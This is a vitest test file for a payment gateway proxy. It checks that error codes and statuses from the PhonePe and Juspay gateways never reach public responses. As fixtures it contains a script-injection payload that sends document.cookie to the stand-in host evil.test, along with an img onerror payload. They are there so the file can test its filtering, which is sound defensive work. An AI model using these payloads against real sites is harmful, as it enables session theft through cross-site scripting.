/**
 * A gateway's own words in checkpost's answers (issue #14): an error code or status is text from outside checkpost's
 * trust boundary — a compromised or buggy gateway, or a proxy in between, can put markup, a sentence or an echoed
 * value there. The attacker makes the gateway's answer carry such text and reads it back through checkpost's public
 * routes (return legs, `/handleJuspayResponse`), where a customer's browser or anyone on the internet reads it.
 * Public answers carry none of it; `/v1` (the merchant's backend) shows a gateway error code, but only as 1–64
 * characters of `[A-Za-z0-9_.:-]`.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { addFault, clearFaults } from "../drivers";
import { api, call, expectProblem } from "../helpers";
import * as juspay from "../juspay/support";
import * as phonepe from "../phonepe/support";

const MARKUP = `<script>fetch("//evil.test/"+document.cookie)</script>`;

beforeAll(async () => {
  await juspay.configureJuspaySim();
});

async function phonepeStatusFault(orderId: string, status: number, body: string): Promise<void> {
  const path = `/checkout/v2/order/${orderId}/status`;
  await addFault("phonepe", { path, method: "GET" }, { kind: "status", status, body }, null);
}

async function juspayStatusFault(orderId: string, status: number, body: string): Promise<void> {
  await addFault("juspay", { path: `/orders/${orderId}`, method: "GET" }, { kind: "status", status, body }, null);
}

/** A PhonePe return leg as a script in the customer's browser would read it (JSON, not the HTML page). */
async function phonepeReturn(orderId: string): Promise<Response> {
  const t = await phonepe.returnToken(orderId);
  return call(`/return/phonepe?order_id=${orderId}&t=${t}`, { headers: { accept: "application/json" } });
}

describe("a gateway's error text never reaches a public answer", () => {
  it.each([
    ["markup", MARKUP],
    ["a well-formed code", "PR000"],
  ])("an error code (%s) in PhonePe's status answer never appears in the return leg's answer", async (_, code) => {
    const orderId = phonepe.newOrderId("GT");
    expect((await phonepe.createOrder(orderId)).res.status).toBe(201);
    await phonepeStatusFault(orderId, 400, JSON.stringify({ errorCode: code, message: code }));
    try {
      const res = await phonepeReturn(orderId);
      const body = await expectProblem(res.clone(), 422, "gateway_rejected");
      expect(body["detail"]).toBeUndefined();
      expect(await res.text()).not.toContain(code);
    } finally {
      await clearFaults("phonepe");
    }
  });

  it("an error code in Juspay's status answer never appears in /handleJuspayResponse's answer", async () => {
    const orderId = juspay.newOrderId("gth");
    await juspay.registerOrder(orderId, 10_000);
    await juspayStatusFault(orderId, 400, JSON.stringify({ error_code: "E_BAD_REQ", error_message: MARKUP }));
    try {
      const res = await call("/handleJuspayResponse", {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ order_id: orderId }),
      });
      const body = await expectProblem(res.clone(), 422, "gateway_rejected");
      expect(body["detail"]).toBeUndefined();
      const text = await res.text();
      expect(text).not.toContain("E_BAD_REQ");
      expect(text).not.toContain("<script>");
    } finally {
      await clearFaults("juspay");
    }
  });

  it("a status Juspay does not document never appears in /handleJuspayResponse's answer (UNKNOWN instead)", async () => {
    const orderId = juspay.newOrderId("gts");
    await juspay.registerOrder(orderId, 10_000);
    const status = `<img src=x onerror=alert(1)>`;
    await juspayStatusFault(orderId, 200, JSON.stringify({ order_id: orderId, status, amount: 100, currency: "INR" }));
    try {
      const res = await call("/handleJuspayResponse", {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ order_id: orderId }),
      });
      expect(res.status).toBe(200);
      const text = await res.text();
      expect(JSON.parse(text)).toMatchObject({ order_status: "UNKNOWN", message: "order status UNKNOWN" });
      expect(text).not.toContain("<img");
    } finally {
      await clearFaults("juspay");
    }
    // The merchant's own API still shows what Juspay said.
    expect((await juspay.getOrder(orderId)).gateway_status).toBe(status);
  });
});

describe("a gateway's error code on /v1 is limited to 64 characters of [A-Za-z0-9_.:-]", () => {
  async function refreshDetail(orderId: string, body: string): Promise<unknown> {
    await juspayStatusFault(orderId, 400, body);
    try {
      const res = await api(`/v1/orders/juspay/${orderId}?refresh=true`);
      return (await expectProblem(res, 422, "gateway_rejected"))["detail"];
    } finally {
      await clearFaults("juspay");
    }
  }

  it.each([
    ["shows a well-formed code", "E.invalid_request:42-x", "gateway error code E.invalid_request:42-x"],
    ["shows a code of exactly 64 characters", "A".repeat(64), `gateway error code ${"A".repeat(64)}`],
    ["drops markup entirely", MARKUP, undefined],
    ["drops a code of 65 characters entirely (never truncated)", "A".repeat(65), undefined],
    ["drops a sentence entirely", "Invalid request: amount", undefined],
  ])("%s", async (_, code, detail) => {
    const orderId = juspay.newOrderId("gtv");
    await juspay.registerOrder(orderId, 10_000);
    expect(await refreshDetail(orderId, JSON.stringify({ error_code: code }))).toBe(detail);
  });
});
